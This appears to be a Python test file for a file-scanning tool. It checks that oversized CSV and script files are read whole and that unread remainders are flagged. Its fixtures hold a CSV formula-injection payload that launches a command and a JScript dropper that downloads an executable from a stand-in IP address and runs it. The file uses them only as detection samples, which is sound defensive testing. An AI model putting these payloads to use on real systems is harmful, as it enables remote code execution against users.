"""Texts that are longer than a piece: they are read on, and what is not read is a hole where it might run."""

from pathlib import Path

import pytest
from support.inside import blob_of

from mimawari import app
from mimawari.formats import script, text
from mimawari.formats.budget import Budget
from mimawari.formats.scripts import reading
from mimawari.model import Gap, Level, OfficeDocument, Script, Source

ROW = b"2026-11-26,order,a row like any other,1200\r\n"
LONG = ROW * (3 * reading.TEXT // len(ROW))
COMMAND = b"x,=cmd|'/c calc'!A0,y\r\n"
LINE = b"function total(a, b) { return a + b; }\r\n"
CODE = LINE * (2 * reading.TEXT // len(LINE))
DROPPER = (
    b'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");'
    b'x.open("GET", "http://192.0.2.1/a.exe", false); x.send();'
    b'var b = new ActiveXObject("ADODB.Stream"); b.Open(); b.Type = 1; b.Write(x.responseBody);'
    b'b.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2); s.Run("C:\\\\Users\\\\Public\\\\a.exe");\r\n'
)


@pytest.fixture
def short(monkeypatch: pytest.MonkeyPatch) -> None:
    """The most is little more than a piece."""
    monkeypatch.setattr(reading, "MOST_TEXT", reading.TEXT + 1000)
    monkeypatch.setattr(reading, "MOST_SCRIPT", reading.TEXT + 1000)


def checked(place: Path, *, is_scan: bool = False) -> Source:
    (source,) = app.check([app.evidence(f"all:{place}" if is_scan else str(place))], app.Settings(reraise=True), 0)
    return source


@pytest.mark.parametrize("name", ["orders.csv", "dump.sql", "app.json", "CHANGES"])
@pytest.mark.parametrize("is_scan", [False, True])
def test_a_long_text_is_read_whole(tmp_path: Path, name: str, is_scan: bool) -> None:
    (tmp_path / name).write_bytes(LONG)
    source = checked(tmp_path / name, is_scan=is_scan)
    assert (app.level_of(source), source.gaps) == (Level.NO_SIGN, ())


def test_a_command_behind_the_first_piece_is_found() -> None:
    found = list(text.opened(blob_of(LONG + COMMAND + LONG, "orders.csv"), Budget()))
    assert [one.fields for one in found if isinstance(one, OfficeDocument)] == [("=cmd|'/c calc'!A0",)]


def test_a_command_is_found_wherever_a_piece_ends() -> None:
    for less in range(0, 60, 7):
        rows = LONG[: reading.TEXT - less].rpartition(b"\r\n")[0] + b"\r\n"
        fill = b"a" * (reading.TEXT - less - len(rows) - 2) + b"\r\n"
        assert text.commands((rows + fill + COMMAND + ROW).decode()) == ("=cmd|'/c calc'!A0",), less


@pytest.mark.usefixtures("short")
def test_the_rest_of_a_text_is_told_beside_the_verdict_of_a_full_scan(tmp_path: Path) -> None:
    """Who asks about one file asks about all of it."""
    (tmp_path / "orders.csv").write_bytes(LONG)
    scan, one = checked(tmp_path, is_scan=True), checked(tmp_path / "orders.csv")
    assert [(gap.reason, gap.wanted) for gap in scan.gaps] == [("too-large", "text-rest")]
    assert scan.gaps[0].remedy == app.known().remedies["all-files-too-large-text-rest"]
    assert (app.level_of(scan), app.holes(scan)) == (Level.NO_SIGN, ())
    assert [(gap.reason, gap.wanted) for gap in one.gaps] == [("too-large", "content")]
    assert app.level_of(one) is Level.UNDETERMINED


@pytest.mark.parametrize("name", ["a.js", "a.ps1", "a.bat", "a.vbs", "a.cmd", "a.wsf"])
@pytest.mark.usefixtures("short")
def test_the_rest_of_a_script_is_a_hole(tmp_path: Path, name: str) -> None:
    content = CODE if name != "a.wsf" else b'<job><script language="JScript">' + CODE + b"</script></job>"
    (tmp_path / name).write_bytes(content)
    source = checked(tmp_path, is_scan=True)
    assert (app.level_of(source), {gap.wanted for gap in source.gaps}) == (Level.UNDETERMINED, {"content"})


@pytest.mark.usefixtures("short")
def test_a_script_is_known_by_its_content_too(tmp_path: Path) -> None:
    (tmp_path / "data").write_bytes(b"@echo off\r\n" + ROW * (2 * reading.TEXT // len(ROW)))
    assert app.level_of(checked(tmp_path, is_scan=True)) is Level.UNDETERMINED


def test_what_a_script_does_behind_its_first_piece_is_found(tmp_path: Path) -> None:
    for way, content in (("before", DROPPER + CODE), ("behind", CODE + DROPPER)):
        (tmp_path / "a.js").write_bytes(content)
        source = checked(tmp_path / "a.js")
        assert [one.kind for one in source.findings] == ["script-dropper"], way
        assert source.gaps == ()


def test_what_belongs_together_stands_in_one_piece() -> None:
    """Wherever a line of some thousand characters stands."""
    one = "x" * 3000
    for at in range(reading.TEXT - 4000, reading.TEXT + 2000, 501):
        whole = (CODE.decode()[:at] + one + CODE.decode())[: 2 * reading.TEXT]
        found = [piece for piece in script.opened(blob_of(whole.encode(), "a.ps1"), Budget()) if isinstance(piece, Script)]
        assert any(one in piece.text for piece in found), at


def test_an_encoded_script_is_not_read_on() -> None:
    found = list(script.opened(blob_of(CODE + b"#@~^AAAAAA==", "a.jse"), Budget()))
    assert ("content", "too-large") in {(one.wanted, one.reason) for one in found if isinstance(one, Gap)}
